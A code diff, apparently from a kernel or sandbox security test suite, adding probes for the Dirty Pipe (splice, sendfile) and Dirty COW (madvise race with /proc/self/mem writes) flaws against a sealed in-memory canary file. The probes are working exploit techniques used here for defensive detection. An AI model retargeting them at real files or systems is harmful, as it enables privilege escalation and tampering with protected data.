@@ -249,4 +249,83 @@ def _():
     do_call("unshare", 0x10000000)
 
 
+# Flaws by which a read changes what was read. The canary is a file in memory that nobody may write to any more, so that
+# an attempt that succeeds harms nothing.
+
+CANARY = b"the canary is as it was\n" * 200
+
+
+def canary():
+    import fcntl
+
+    file = os.memfd_create("canary", os.MFD_ALLOW_SEALING)
+    os.write(file, CANARY)
+    fcntl.fcntl(file, fcntl.F_ADD_SEALS, fcntl.F_SEAL_WRITE | fcntl.F_SEAL_SHRINK | fcntl.F_SEAL_GROW)
+    return file
+
+
+def look_at(file):
+    if os.pread(file, len(CANARY), 0) != CANARY:
+        return "done"
+    return "absent: the canary is as it was"
+
+
+def through_a_pipe(move):
+    """Dirty Pipe: what is written behind a page in a pipe is written into the page."""
+    import fcntl
+
+    file = canary()
+    reader, writer = os.pipe()
+    # Every place of the pipe has been written to: that is what the flaw does not forget.
+    size = fcntl.fcntl(writer, 1032)
+    os.write(writer, bytes(size))
+    while size > 0:
+        size -= len(os.read(reader, size))
+    if move(file, writer) != 1:
+        return "broken: not one byte was moved"
+    os.write(writer, b"CHANGED")
+    if os.read(reader, 100) != CANARY[:1] + b"CHANGED":
+        return "broken: the pipe has something else"
+    return look_at(file)
+
+
+def by_splice(file, writer):
+    os.lseek(file, 0, os.SEEK_SET)
+    moved = LIBC.splice(file, None, writer, None, ctypes.c_size_t(1), 0)
+    if moved < 0:
+        raise OSError(ctypes.get_errno(), "splice")
+    return moved
+
+
+attempt("E22.splice-canary", lambda: through_a_pipe(by_splice))
+attempt("E22.sendfile-canary", lambda: through_a_pipe(lambda file, writer: os.sendfile(writer, file, 0, 1)))
+
+
+@attack("E22.copied-canary")
+def _():
+    # Dirty COW: a private copy is given back while it is written to, so that the write meets the page itself.
+    import threading
+
+    file = canary()
+    LIBC.mmap.restype = ctypes.c_void_p
+    place = LIBC.mmap(None, ctypes.c_size_t(len(CANARY)), 1, 2, file, ctypes.c_long(0))
+    if place in (None, ctypes.c_void_p(-1).value):
+        raise OSError(ctypes.get_errno(), "mmap")
+    until = time.monotonic() + 1
+
+    def give_back():
+        while time.monotonic() < until:
+            LIBC.madvise(ctypes.c_void_p(place), ctypes.c_size_t(len(CANARY)), 4)
+
+    giving = threading.Thread(target=give_back)
+    memory = os.open("/proc/self/mem", os.O_RDWR)
+    giving.start()
+    try:
+        while time.monotonic() < until:
+            os.pwrite(memory, b"CHANGED", place)
+    finally:
+        giving.join()
+    return look_at(file)
+
+
 linger()
